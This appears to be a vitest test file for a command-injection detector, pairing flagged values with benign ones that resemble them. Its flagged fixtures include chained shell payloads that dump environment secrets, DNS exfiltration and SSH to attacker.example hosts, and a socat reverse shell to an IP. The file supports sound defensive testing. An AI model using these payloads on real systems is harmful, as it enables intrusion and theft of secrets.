import { describe, expect, it } from 'vitest';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { carriersFlagging } from './carriers.js';

// rev7: evasions of forms8's quieting classes, closed by class (values written for these tests), and the benign values beside them.
const d = new InjectionDetector();
const carriers = (v: string) => carriersFlagging(d, v, true);
const ALL = ['query', 'form', 'json', 'raw'];

describe('an item of a `; ` list that probes the host or names a file or host is a command', () => {
  it.each([
    // a probe with no argument: it prints the host's secrets, names or state
    'a; b; c; env',
    'tea; milk; sugar; printenv',
    'red; green; blue; ifconfig',
    'one; two; three; hostname',
    'x; y; z; ps aux',
    // a command naming a host or a file after it (DNS exfiltration, a reverse shell, a script run)
    'a; b; c; nslookup x.attacker.example',
    'a; b; c; dig x.attacker.example',
    'a; b; c; socat tcp:198.51.100.4:9001 exec:sh',
    'a; b; c; chmod 777 x',
    'a; b; c; python x.py',
    'a; b; c; ssh attacker.example',
    'a; b; c; sh',
    'a; b; c; ssh root@198.51.100.4',
    // Windows probes: a listing, shares, the registry
    'a; b; c; dir',
    'a; b; c; net view',
    'a; b; c; reg query hklm',
  ])('reported: %s', (v) => {
    expect(carriers(v)).toEqual(ALL);
  });

  it.each([
    'Skills: Python; Bash; SSH; Nmap; Git',
    'Languages: Python 3.11; Node 20; Ruby on Rails; PHP 8',
    'Ground floor: hall; lounge; kitchen; WC',
    'Tools: Grep; Sed; Awk; Vim',
    'Skills: C#; .NET; SQL; Azure',
  ])('quiet: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
});

describe('` & ` before a command printing a marker or looking up a user is no English `and`', () => {
  it.each(['a & echo vulnerable', 'x & echo pwned', 'name & echo injected here', 'a & finger root'])('reported: %s', (v) => {
    expect(carriers(v)).toEqual(ALL);
  });

  it.each(['1 tsp & less soy', 'dog & cat food', 'cut & paste', 'games & more fun'])('quiet: %s', (v) => {
    expect(carriers(v)).toEqual([]);
  });
});
